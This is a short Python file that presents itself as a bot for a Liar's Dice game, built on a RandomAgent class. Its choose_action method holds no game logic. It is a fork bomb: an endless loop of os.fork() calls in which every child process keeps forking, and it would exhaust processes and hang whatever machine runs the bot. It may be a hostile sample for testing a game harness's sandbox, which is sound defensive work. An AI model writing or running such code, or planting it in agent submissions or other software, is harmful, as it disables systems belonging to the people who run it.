"""Multiplies until it may not."""

import os
import time

from liars_dice.agents import RandomAgent


class Bot(RandomAgent):
    def choose_action(self, view):
        while True:
            if os.fork() == 0:
                time.sleep(60)
